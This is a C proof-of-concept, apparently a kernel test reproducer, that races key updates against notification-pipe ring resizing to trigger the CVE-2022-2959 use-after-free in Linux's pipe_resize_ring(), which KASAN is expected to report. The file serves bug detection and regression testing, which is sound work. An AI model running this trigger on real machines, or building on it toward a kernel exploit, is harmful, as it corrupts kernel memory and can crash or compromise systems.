// CVE-2022-2959 (fixed by 189b0ddc2451, "pipe: Fix missing lock in pipe_resize_ring()"): the
// ring was swapped and freed without the lock post_one_notification() writes it under. A queue
// watched before SET_SIZE takes posts (each marks a loss in the ring) while SET_SIZE resizes it.
// Expected with KASAN: "use-after-free Write in post_one_notification". Racy: one thread
// creates, watches, sizes and closes queues while the other updates the key. Runs RUN_SECONDS.
// uapi values as in include/uapi/linux/{watch_queue,keyctl}.h (not included: clash with glibc).
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define RUN_SECONDS 5
#define O_NOTIFICATION_PIPE O_EXCL
#define IOC_WATCH_QUEUE_SET_SIZE _IO('W', 0x60)
#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_UPDATE 2
#define KEYCTL_WATCH_KEY 32
#define KEY_SPEC_SESSION_KEYRING -3

static long key;
static volatile int stop;

static void *updater(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(__NR_keyctl, KEYCTL_UPDATE, key, "x", 1);
	return NULL;
}

int main(void)
{
	pthread_t t;
	time_t end = time(NULL) + RUN_SECONDS;
	long rounds = 0;
	int fds[2];

	syscall(__NR_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0);
	key = syscall(__NR_add_key, "user", "wqh-race", "v", 1, KEY_SPEC_SESSION_KEYRING);
	if (key < 0) {
		perror("add_key");
		return 1;
	}
	pthread_create(&t, NULL, updater, NULL);
	while (time(NULL) < end) {
		if (pipe2(fds, O_NOTIFICATION_PIPE) < 0) {
			perror("pipe2(O_NOTIFICATION_PIPE)");
			return 1;
		}
		syscall(__NR_keyctl, KEYCTL_WATCH_KEY, key, fds[0], 1);
		ioctl(fds[0], IOC_WATCH_QUEUE_SET_SIZE, 512);
		close(fds[1]);
		close(fds[0]);
		rounds++;
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("%ld rounds\n", rounds);
	return 0;
}
